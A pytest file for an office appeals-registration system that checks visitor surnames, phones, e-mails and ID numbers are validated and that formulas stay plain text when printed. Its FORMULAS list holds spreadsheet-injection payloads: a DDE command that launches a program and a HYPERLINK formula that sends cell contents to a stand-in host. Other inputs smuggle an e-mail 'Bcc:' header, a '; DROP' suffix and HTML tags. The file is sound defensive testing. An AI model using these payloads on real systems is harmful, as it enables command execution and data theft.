# SPDX-License-Identifier: Apache-2.0
"""D5-D9: formulas stay text, `+` and leading zeros stay, and only the digits 0-9 make a number."""

import pytest

FORMULAS = ['=HYPERLINK("http://x/?"&A1;"Иванов")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|'/C calc'!A0", "\tИванов", "'=1"]


def test_d5_a_formula_is_letters_in_register_and_on_paper(sqlite_office, read_paper):
    for text in FORMULAS:
        registered = sqlite_office.register(visitor__surname=text)
        shown = sqlite_office.desk.lookup.show(sqlite_office.clerk, registered.number, request=sqlite_office.request())
        assert shown.personal["visitor"]["surname"] == text.strip()
        assert read_paper(sqlite_office.issue(registered.number).pdf).holds(text.strip())


# --- telephones


GOOD_PHONES = {
    "+77011234567": "+77011234567", "8 (701) 123-45-67": "+77011234567", "7011234567": "+77011234567", "+992 93 123 4567": "+992931234567",
    "00998901234567": "+998901234567", "8-10-998-90-123-45-67": "+998901234567", "+7\u00a0701\u2009123\u201145\u201167": "+77011234567",
}  # fmt: skip
BAD_PHONES = {
    "Иванов": "phone_digits", "701-ЖШС": "phone_digits", "+7701123456": "phone_length", "+770112345678": "phone_length",
    "٠٧٠١١٢٣٤٥٦٧": "phone_digits", "８７０１１２３４５６７": "phone_digits", "+++7701": "phone_digits", "1" * 40: "phone_country_code",
    "1" * 90: "phone_country_code", "8701123456<b>": "phone_digits", "7701 123 45 67; DROP": "phone_digits", "+": "phone_digits",
    "99890123456712": "phone_country_code",
}  # fmt: skip


def test_d6_a_phone_keeps_its_plus_everywhere(sqlite_office):
    for typed, kept in GOOD_PHONES.items():
        registered = sqlite_office.register(visitor__phone=typed)
        shown = sqlite_office.desk.lookup.show(sqlite_office.clerk, registered.number, request=sqlite_office.request())
        assert shown.personal["visitor"]["phone"] == kept
        found = sqlite_office.desk.lookup.find(sqlite_office.clerk, kept).appeals
        assert registered.number in [hit.number for hit in found]


@pytest.mark.parametrize("typed", BAD_PHONES)
def test_d6_what_is_no_phone_is_refused_at_its_field(untouched, objections, typed):
    assert objections(untouched.register, visitor__phone=typed) == [f"visitor.phone:{BAD_PHONES[typed]}"]


def test_d6_an_office_phone_is_printed_with_its_plus(sqlite_office, read_paper):
    sqlite_office.desk.settings.change(sqlite_office.admin, "office_phone", "+7 72533 2 10 02", "s1")
    assert read_paper(sqlite_office.issue(sqlite_office.register().number).pdf).holds("+7 72533 2 10 02")


@pytest.mark.parametrize(
    "typed",
    ["a@b.kz\nBcc: x@y.kz", "a b@c.kz", "<a@b.kz>", "a@b", "a@@b.kz", "@b.kz", "a@-b.kz", "a@b..kz", "mailto:a@b.kz;c@d.kz", "a" * 300 + "@b.kz"],
)  # fmt: skip
def test_d6_what_is_no_e_mail_is_refused_at_its_field(untouched, objections, typed):
    found = objections(untouched.register, visitor__email=typed)
    assert len(found) == 1
    assert found[0] in {
        "visitor.email:email_format",
        "visitor.email:text_control_characters",
        "visitor.email:text_too_long",
    }


# --- IIN and BIN

EARLY = "010203501204"
"""A correct number that begins with a zero: 3 February 2001, male."""


def test_d7_the_leading_zero_stays(sqlite_office):
    registered = sqlite_office.register(visitor__iin=f" {EARLY[:6]} {EARLY[6:]} ")
    shown = sqlite_office.desk.lookup.show(sqlite_office.clerk, registered.number, request=sqlite_office.request())
    assert shown.personal["visitor"]["iin"] == EARLY
    assert sqlite_office.desk.lookup.find(sqlite_office.clerk, EARLY).appeals[0].iin == "••••••••1204"
    assert sqlite_office.desk.lookup.find(sqlite_office.clerk, "010203").people[0].iin == "••••••••1204"
    person = sqlite_office.desk.lookup.find(sqlite_office.clerk, EARLY).people[0]
    assert (
        sqlite_office.desk.lookup.open_person(sqlite_office.clerk, person.seq, request="o1")["visitor"]["iin"] == EARLY
    )


def test_d7_the_example_of_the_specification_is_kept_whole_in_its_refusal(untouched, objections):
    # 010203456789 has a wrong check digit; the answer must not be about eleven digits.
    assert objections(untouched.register, visitor__iin="010203456789") == ["visitor.iin:iin_check_digit"]


BAD_IINS = {
    "٠١٠٢٠٣٤٥٦٧٨٩": "iin_digits", "０１０２０３４５６７８９": "iin_digits", "०१०२०३४५६७८९": "iin_digits", "𝟎𝟏𝟎𝟐𝟎𝟑𝟒𝟓𝟔𝟕𝟖𝟗": "iin_digits",
    "①②③④⑤⑥⑦⑧⑨⓪①②": "iin_digits", "92101549123٤": "iin_digits", "92101549123²": "iin_digits", "9210154912З4": "iin_digits",
    "000000000000": "iin_zeros", "921015491235": "iin_check_digit", "92101549123": "iin_length", "9210154912340": "iin_length",
    "0": "iin_length", "9" * 300: "text_too_long", "-92101549123": "iin_digits", "+92101549123": "iin_digits", "9.2e11": "iin_digits",
    "921015-491234": "iin_digits", "921015491234\u200b0": "iin_digits", "0x92101549123": "iin_digits", "<b>921015491234": "iin_digits",
}  # fmt: skip


@pytest.mark.parametrize("typed", BAD_IINS)
def test_d8_d9_a_wrong_iin_is_refused_with_its_reason(untouched, objections, typed):
    assert objections(untouched.register, visitor__iin=typed) == [f"visitor.iin:{BAD_IINS[typed]}"]


def test_d9_no_iin_is_a_choice_of_its_own(untouched, objections):
    assert objections(untouched.register, visitor__iin=None) == ["visitor.iin:iin_or_reason"]
    assert objections(untouched.register, visitor__iin="  ") == ["visitor.iin:iin_or_reason"]
    assert objections(untouched.register, visitor__iin=None, visitor__no_iin_reason=" \u200b ") == [
        "visitor.iin:iin_or_reason"
    ]


def test_d9_no_iin_with_a_reason_registers(sqlite_office):
    sqlite_office.register(visitor__iin=None, visitor__no_iin_reason="Шетел азаматы")


def test_d9_a_bin_in_the_place_of_the_iin_is_warned_of(sqlite_office):
    document = sqlite_office.appeal(visitor__iin="250341990029", against="Инспектор")
    preview = sqlite_office.desk.intake.preview(sqlite_office.clerk, document, 1, with_paper=False)
    assert [f"{one.field}:{one.code}" for one in preview.warnings] == ["visitor.iin:iin_is_bin"]


@pytest.mark.parametrize(
    "typed", ["٢٥٠٣٤١٩٩٠٠٢٩", "250341990028", "25034199002", "000000000000", "ЖШС", "250341990029<b>"]
)
def test_d9_a_wrong_bin_is_refused(untouched, objections, typed):
    organisation = {"name": "ТОО Х", "bin": typed, "address": "Абай 1"}
    found = objections(untouched.register, visitor=None, organisation=organisation)
    assert len(found) == 1
    assert found[0].startswith("organisation.bin:bin_")


# --- the window


@pytest.mark.parametrize("language", ["kk", "ru", "en"])
def test_d8_d9_the_window_says_it_at_the_field_and_keeps_the_form(make_window, paste, sentences, language):
    robot = make_window(language)
    robot.sign_in()
    robot.fill()
    finder, size = robot.form.person.finder, robot.office.size
    seen = set()
    for typed in ("000000000000", "921015491235", "92101549123", "9210154912340"):
        paste(robot, typed, finder)
        robot.press("Ctrl+Enter")
        problem = robot.form._shown["visitor.iin"]
        note = robot.form.person.first_row.note.text()
        assert note == sentences(problem)[language]
        assert robot.focus is finder
        assert finder.text() == typed
        assert robot.form.person.surname.text() == "Өтегенқызы"
        seen.add(note)
    assert len(seen) >= 3
    assert robot.office.size == size
    robot.reception.draft.save_now()
    assert robot.office.desk.drafts.load(robot.office.clerk, 1)["visitor"]["iin"] == typed
    paste(robot, "921015491234", finder)
    robot.press("Ctrl+Enter")
    assert len(robot.office.desk.papers.recent()) == 1


def test_d8_foreign_digits_are_no_iin_in_the_window(robot, paste, sentences):
    robot.fill()
    for typed in ("٠١٠٢٠٣٤٥٦٧٨٩", "０１０２０３４５６７８９"):
        paste(robot, typed, robot.form.person.finder)
        robot.press("Ctrl+Enter")
        problem = robot.form._shown["visitor.iin"]
        assert problem.code == "iin_digits"
        assert robot.form.person.first_row.note.text() == sentences(problem)["en"]
        assert robot.form.person.finder.echo == ""
    assert robot.office.desk.papers.recent() == ()


def test_d6_a_phone_with_letters_is_said_at_the_phone(robot, paste, sentences):
    robot.fill()
    paste(robot, "701-ЖШС", robot.form.person.phone)
    robot.press("Ctrl+Enter")
    assert robot.focus is robot.form.person.phone
    assert robot.form._shown["visitor.phone"].code == "phone_digits"
    assert robot.form.person.phone.text() == "701-ЖШС"
    assert robot.office.desk.papers.recent() == ()
